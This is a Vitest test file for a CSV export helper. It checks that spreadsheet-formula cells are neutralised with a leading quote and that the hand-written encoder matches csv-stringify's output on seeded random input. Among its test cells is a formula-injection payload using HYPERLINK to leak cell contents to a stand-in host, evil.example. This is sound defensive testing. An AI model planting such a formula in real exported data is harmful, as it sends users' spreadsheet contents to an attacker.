import { seededRandom } from "../seeded-random";
import { describe, expect, it } from "vitest";
import { neutralizeFormula } from "./csv-cells";

describe("neutralizeFormula", () => {
  it("prefixes every cell a spreadsheet would run as a formula", () => {
    for (const cell of [
      "=1+1",
      "@SUM(1+1)",
      "-cmd",
      "+cmd",
      "\tcmd",
      "\rcmd",
      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    ]) {
      expect(neutralizeFormula(cell)).toBe(`'${cell}`);
    }
  });
  it("leaves ordinary text and numbers alone", () => {
    for (const cell of ["SUMMER10", "12.50", "", "a=b", "#1001"]) expect(neutralizeFormula(cell)).toBe(cell);
  });
});

// csvCell and csvRecord replace csv-stringify on the export's hot path (csv-stringify alone holds an
// export under its 50,000 rows/s, docs/benchmarks.md#csv-export): the bytes are csv-stringify's, with
// every line break quoted (quote_record_delimiter: a bare CR or LF inside a cell ends the record for
// Excel and for every CSV parser).
import { stringify } from "csv-stringify/sync";
import { csvCell, csvRecord } from "./csv-cells";

const ALPHABET = [
  '"',
  ",",
  "\r",
  "\n",
  "\r\n",
  "=",
  "+",
  "-",
  "@",
  "\t",
  "'",
  " ",
  "a",
  "Z",
  "9",
  ".",
  "é",
  "€",
  "漢",
  "😀",
  "\uFF1D",
  ";",
];

/** A seeded generator, so a failure names a reproducible seed. */
const random = seededRandom;

const reference = (rows: string[][]) =>
  stringify(rows, { record_delimiter: "\r\n", quote_record_delimiter: true, cast: { string: neutralizeFormula } });

describe("csvRecord", () => {
  it("writes csv-stringify's bytes on random cells with quotes, commas, line breaks, formulas and unicode", () => {
    for (let seed = 1; seed <= 200; seed++) {
      const next = random(seed);
      const rows = Array.from({ length: 1 + Math.floor(next() * 5) }, () =>
        Array.from({ length: 1 + Math.floor(next() * 17) }, () =>
          Array.from({ length: Math.floor(next() * 12) }, () => ALPHABET[Math.floor(next() * ALPHABET.length)]).join(
            "",
          ),
        ),
      );
      expect(rows.map(csvRecord).join(""), `seed ${seed}`).toBe(reference(rows));
    }
  });
  it("quotes only what must be quoted and neutralises formulas inside quotes", () => {
    expect(csvRecord(["plain", "", "a,b", 'say "hi"', "line\nbreak", "cr\r", "=1+1", "-2.00", "=a,b"])).toBe(
      `plain,,"a,b","say ""hi""","line\nbreak","cr\r",'=1+1,'-2.00,"'=a,b"\r\n`,
    );
    expect(csvCell("")).toBe("");
    expect(csvCell("12.50")).toBe("12.50");
  });
});
